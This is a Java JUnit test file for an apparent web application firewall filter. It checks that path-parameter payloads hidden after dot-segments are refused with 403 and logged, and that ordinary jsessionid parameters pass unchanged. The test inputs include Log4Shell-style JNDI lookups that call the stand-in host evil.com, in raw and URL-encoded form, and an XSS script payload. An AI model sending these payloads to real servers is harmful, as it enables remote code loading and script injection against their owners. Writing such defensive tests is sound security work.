package dev.bulwark.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.bulwark.testsupport.RawHttp;
import org.junit.jupiter.api.Test;

/**
 * Payloads in the path parameters of dot-segments, which the normalised path drops but
 * {@code getRequestURI()} still carries to the application.
 */
class PathParameterDenyRulesTest extends FilterContainerTest {

    @Override
    boolean acceptsAmbiguousUris() {
        return true;
    }


    private JsonNode refusedAndLogged(String target) {
        int before = servlet.calls.get();

        RawHttp.Response response = rawGet(target);

        assertThat(response.status()).as(response.body()).isEqualTo(403);
        assertThat(servlet.calls.get()).isEqualTo(before);
        return loggedEvent(response.body());
    }

    @Test
    void blocksJndiLookupInTheParametersOfADotDotSegment() {
        JsonNode event = refusedAndLogged("/t/..;%24%7Bjndi:ldap:%2F%2Fevil.com%2Fa%7D/y");

        assertThat(event.get("bulwark.block_type").asText()).isEqualTo("deny");
        assertThat(event.get("bulwark.location").asText()).isEqualTo("path-parameter:1");
    }

    @Test
    void blocksJndiLookupWhoseSlashesSplitItAcrossTheDroppedSegment() {
        JsonNode event = refusedAndLogged("/t/..;${jndi:ldap://evil.com/a}/y");

        assertThat(event.get("rule.category").asText()).isEqualTo("JAVA");
    }

    @Test
    void blocksScriptInTheParametersOfADotSegment() {
        JsonNode event = refusedAndLogged("/t/.;%3Cscript%3Ealert(1)%3C/script%3E/y");

        assertThat(event.get("rule.category").asText()).isEqualTo("XSS");
        assertThat(event.get("bulwark.location").asText()).isEqualTo("path-parameter:1");
    }

    @Test
    void passesOrdinaryPathParametersUnchanged() {
        RawHttp.Response response = rawGet("/shop/cart;jsessionid=0A1B2C/items");

        assertThat(response.status()).isEqualTo(200);
        assertThat(json(response.body()).get("path").asText()).isEqualTo("/shop/cart;jsessionid=0A1B2C/items");
    }
}
